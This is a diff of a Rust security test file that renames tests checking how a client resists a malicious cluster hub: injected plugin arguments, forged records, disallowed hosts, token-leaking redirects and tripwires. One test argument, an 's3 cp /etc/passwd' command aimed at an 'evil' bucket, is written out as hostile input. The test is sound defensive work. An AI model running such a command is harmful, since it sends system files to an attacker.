@@ -28,7 +28,7 @@ fn region() -> Value {
 }
 
 #[test]
-fn commands_and_arguments() {
+fn evil_hub_commands_and_arguments() {
     let eks = || at("eks", "@server@");
     let arguments = [
         "s3,cp,/etc/passwd,s3://evil",
@@ -94,7 +94,7 @@ fn commands_and_arguments() {
 }
 
 #[test]
-fn what_a_profile_adds_to_the_user_s_own_plugin() {
+fn evil_hub_additions_to_the_users_plugin() {
     let extension = |name: &str, value: Value| {
         let name = format!("clusterprofiles.multicluster.x-k8s.io/exec/{name}");
         json!([{"name": "corp", "cluster": {"server": "@server@", "extensions": [{"name": name, "extension": value}]}}])
@@ -201,7 +201,7 @@ fn what_a_profile_adds_to_the_user_s_own_plugin() {
 }
 
 #[test]
-fn where_it_is_and_how_it_is_reached() {
+fn evil_hub_server_proxy_and_trust() {
     let pem = |text: &str| {
         use base64::Engine as _;
         json!(base64::engine::general_purpose::STANDARD.encode(text))
@@ -301,7 +301,7 @@ fn where_it_is_and_how_it_is_reached() {
 }
 
 #[test]
-fn hosts_that_are_nobody_s() {
+fn evil_hub_hosts_that_no_pattern_allows() {
     let hosts = [
         "@server@",
         "https://localhost:6443",
@@ -368,7 +368,7 @@ fn hosts_that_are_nobody_s() {
 }
 
 #[test]
-fn names_and_objects() {
+fn evil_hub_names_and_objects() {
     let profile = |name: &str, status: Value| {
         json!({"metadata": {"name": name, "namespace": "x"}, "spec": {"clusterManager": {"name": "m"}}, "status": status})
             .to_string()
@@ -418,7 +418,7 @@ fn names_and_objects() {
 
 /// Records that somebody wrote, in place of mc-discover and mc-resolve.
 #[test]
-fn forged_records() {
+fn forged_records_are_judged_like_the_hubs() {
     let fleet = Fleet::start(fleet([eks("a")]));
     let server = fleet.member("a").server().to_owned();
     let user = User::of(fleet, ALLOWED);
@@ -472,7 +472,7 @@ fn forged_records() {
 
 /// A server that is allowed and sends its visitors on: their token stays where it was meant for.
 #[test]
-fn a_redirect_is_not_followed() {
+fn redirect_is_not_followed() {
     let fleet = Fleet::start(fleet([Member {
         fault: Fault::Redirect,
         ..eks("a")
@@ -500,7 +500,7 @@ fn a_redirect_is_not_followed() {
 
 /// The tripwires and the comparison would tell: a hub that says nothing wrong has the user's plugin run.
 #[test]
-fn a_tripwire_trips() {
+fn tripwires_work() {
     let fleet = Fleet::start(fleet([eks("a")]));
     let user = User::of(fleet, ALLOWED);
     let before = user.files();
